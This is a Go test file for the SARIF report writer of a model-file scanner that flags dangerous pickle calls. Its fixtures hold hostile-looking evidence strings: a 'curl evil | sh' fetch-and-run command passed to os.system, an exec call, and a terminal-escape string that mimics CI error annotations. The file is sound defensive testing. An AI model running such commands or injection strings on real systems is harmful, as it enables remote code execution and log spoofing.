package sarif

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/modelgate/modelgate/baseline"
	"github.com/modelgate/modelgate/finding"
	"github.com/modelgate/modelgate/policy"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// sampleReport: a PyTorch checkpoint with two dangerous calls and an unknown
// import in a member, a raw pickle whose path needs percent-encoding and
// whose strings carry control characters, a file-level finding without an
// offset, and clean and skipped files.
func sampleReport() *finding.Report {
	files := []finding.FileResult{
		{Path: "clean/weights.safetensors", Format: "safetensors", Status: finding.StatusScanned},
		{Path: "docs/readme.txt", Status: finding.StatusSkipped},
		{Path: "models/evil.pt", Format: "pytorch", Status: finding.StatusScanned,
			Members: []string{"archive/data.pkl"},
			Findings: []finding.Finding{
				{Rule: finding.RuleUnknownImport, Severity: finding.Medium, Message: "imports unknown global mypkg.helper", Member: "archive/data.pkl", Offset: 88, Length: 20, Callable: "mypkg.helper"},
				{Rule: finding.RuleDangerousCallable, Severity: finding.Critical, Message: "calls builtins.exec", Member: "archive/data.pkl", Offset: 120, Length: 14, Callable: "builtins.exec", Evidence: "builtins.exec('import os')"},
				{Rule: finding.RuleDangerousCallable, Severity: finding.Critical, Message: "calls os.system", Member: "archive/data.pkl", Offset: 42, Length: 12, Callable: "os.system", Evidence: "os.system('curl evil | sh')"},
			}},
		{Path: "odd dir/x:y%z.pkl", Format: "pickle", Status: finding.StatusPartial,
			Findings: []finding.Finding{
				{Rule: finding.RuleMalformedPickle, Severity: finding.Medium, Message: "stream ends without STOP", Offset: 60, Length: 1},
				{Rule: finding.RuleUnknownCall, Severity: finding.High, Message: "calls evil.run", Offset: 3, Length: 9, Callable: "evil.run", Evidence: "evil.run('\x1b[31m::error::pwned\n')"},
				{Rule: finding.RuleTrailingData, Severity: finding.Low, Message: "12 bytes after the last pickle", Offset: 61},
			}},
		{Path: "big/model.bin", Format: "pickle", Status: finding.StatusNotScanned,
			Findings: []finding.Finding{{Rule: finding.RuleUnscannable, Severity: finding.High, Message: "file exceeds the size limit", Offset: -1}}},
	}
	return &finding.Report{Files: files, Summary: finding.Summarize(files, 0)}
}

func cleanReport() *finding.Report {
	files := []finding.FileResult{{Path: "w.safetensors", Format: "safetensors", Status: finding.StatusScanned}}
	return &finding.Report{Files: files, Summary: finding.Summarize(files, 0)}
}

// suppressedReport: one of two os.system findings is allowed by policy.
// and the findings carry baseline states.
func suppressedReport() *finding.Report {
	files := []finding.FileResult{{Path: "m.pkl", Format: "pickle", Status: finding.StatusScanned,
		Findings: []finding.Finding{
			{Rule: finding.RuleUnknownClass, Severity: finding.Medium, Message: "builds mypkg.models.Net", Offset: 2, Length: 30, Callable: "mypkg.models.Net",
				Suppression: &finding.Suppression{Kind: "external", Justification: "our own model class (reviewed)"}, Baseline: "unchanged"},
			{Rule: finding.RuleUnknownClass, Severity: finding.Medium, Message: "builds other.Thing", Offset: 50, Length: 20, Callable: "other.Thing", Baseline: "new"},
		}}}
	return &finding.Report{Files: files, Summary: finding.Summarize(files, 0)}
}

// write writes r as SARIF, with the policy's rule severities unless opts
// names others.
func write(t *testing.T, r *finding.Report, opts Options) []byte {
	t.Helper()
	if opts.RuleSeverities == nil {
		opts.RuleSeverities = policy.RuleSeverities()
	}
	var buf bytes.Buffer
	if err := Write(&buf, r, opts); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// cases are every SARIF log the tests produce; each is compared with its
// golden file and validated.
func cases(t *testing.T) map[string][]byte {
	t.Helper()
	return map[string][]byte{
		"findings.sarif":   write(t, sampleReport(), Options{Version: "devel"}),
		"clean.sarif":      write(t, cleanReport(), Options{Version: "devel"}),
		"category.sarif":   write(t, cleanReport(), Options{Version: "v1.2.3", Category: "models"}),
		"suppressed.sarif": write(t, suppressedReport(), Options{Version: "devel"}),
	}
}

func TestGolden(t *testing.T) {
	for name, got := range cases(t) {
		t.Run(strings.TrimSuffix(name, ".sarif"), func(t *testing.T) {
			path := filepath.Join("testdata", name)
			if *update {
				if err := os.WriteFile(path, got, 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("read golden (run go test ./sarif -update): %v", err)
			}
			if diff := cmp.Diff(string(want), string(got)); diff != "" {
				t.Errorf("mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

func TestDeterministic(t *testing.T) {
	a := write(t, sampleReport(), Options{})
	r := sampleReport()
	// Reverse files and findings: the log must not change.
	for i, j := 0, len(r.Files)-1; i < j; i, j = i+1, j-1 {
		r.Files[i], r.Files[j] = r.Files[j], r.Files[i]
	}
	for _, f := range r.Files {
		for i, j := 0, len(f.Findings)-1; i < j; i, j = i+1, j-1 {
			f.Findings[i], f.Findings[j] = f.Findings[j], f.Findings[i]
		}
	}
	if diff := cmp.Diff(string(a), string(write(t, r, Options{}))); diff != "" {
		t.Errorf("order of input changes the log:\n%s", diff)
	}
	if bytes.Contains(a, []byte("null")) {
		t.Error("log contains null")
	}
}

func TestUnknownRule(t *testing.T) {
	files := []finding.FileResult{{Path: "a.pkl", Findings: []finding.Finding{{Rule: "MG999", Severity: finding.High, Offset: -1}}}}
	var buf bytes.Buffer
	if err := Write(&buf, &finding.Report{Files: files}, Options{RuleSeverities: policy.RuleSeverities()}); err == nil {
		t.Error("a finding with an unknown rule was written")
	}
}

func TestURI(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"plain", "models/a.pkl", "models/a.pkl"},
		{"dot_slash", "./a.pkl", "a.pkl"},
		{"space", "odd dir/a b.pkl", "odd%20dir/a%20b.pkl"},
		{"colon_percent", "x:y%z.pkl", "x%3Ay%25z.pkl"},
		{"hash_query", "a#b?c.pkl", "a%23b%3Fc.pkl"},
		{"unicode", "modèle.pkl", "mod%C3%A8le.pkl"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := URI(tt.in); got != tt.want {
				t.Errorf("URI(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestLineHashIgnoresOffset(t *testing.T) {
	a := finding.Finding{Rule: "MG001", Member: "m", Callable: "os.system", Offset: 1}
	b := a
	b.Offset = 999
	if LineHash(finding.Fingerprint("p", a)) != LineHash(finding.Fingerprint("p", b)) {
		t.Error("fingerprint depends on the offset")
	}
	b.Callable = "os.popen"
	if LineHash(finding.Fingerprint("p", a)) == LineHash(finding.Fingerprint("p", b)) {
		t.Error("fingerprint ignores the callable")
	}
}

// TestBaselineRoundTrip reads a log back as a baseline: every finding of
// the report, related locations included, must be in it.
func TestBaselineRoundTrip(t *testing.T) {
	if FingerprintsProperty != baseline.SARIFProperty {
		t.Fatalf("property %q, baseline reads %q", FingerprintsProperty, baseline.SARIFProperty)
	}
	path := filepath.Join(t.TempDir(), "b.sarif")
	if err := os.WriteFile(path, write(t, sampleReport(), Options{}), 0o644); err != nil {
		t.Fatal(err)
	}
	set, err := baseline.Load(path)
	if err != nil {
		t.Fatal(err)
	}
	r := sampleReport()
	set.Apply(r)
	for _, f := range r.Files {
		for _, fd := range f.Findings {
			if fd.Baseline != "unchanged" {
				t.Errorf("%s %s %s not in the baseline", f.Path, fd.Rule, fd.Callable)
			}
		}
	}
}

// sarifLog is the part of a SARIF log the structural tests read.
type sarifLog struct {
	Runs []struct {
		Tool struct {
			Driver struct {
				Name, SemanticVersion, InformationURI string
				Rules                                 []struct {
					ID                   string
					Name                 string
					ShortDescription     struct{ Text string }
					FullDescription      struct{ Text string }
					Help                 struct{ Text, Markdown string }
					DefaultConfiguration struct{ Level string }
					Properties           struct {
						Tags             []string
						SecuritySeverity string `json:"security-severity"`
					}
				}
			}
		}
		AutomationDetails *struct{ ID string }
		Results           []struct {
			RuleID    string
			RuleIndex *int
			Level     string
			Message   struct{ Text string }
			Locations []struct {
				PhysicalLocation struct {
					ArtifactLocation struct{ URI string }
					Region           map[string]int
				}
			}
			RelatedLocations []struct {
				ID      int
				Message struct{ Text string }
			}
			PartialFingerprints map[string]string
			BaselineState       string
			Suppressions        []struct{ Kind, Status, Justification string }
		}
	}
}

func decode(t *testing.T, b []byte) sarifLog {
	t.Helper()
	var l sarifLog
	if err := json.Unmarshal(b, &l); err != nil {
		t.Fatal(err)
	}
	if len(l.Runs) != 1 {
		t.Fatalf("%d runs", len(l.Runs))
	}
	return l
}
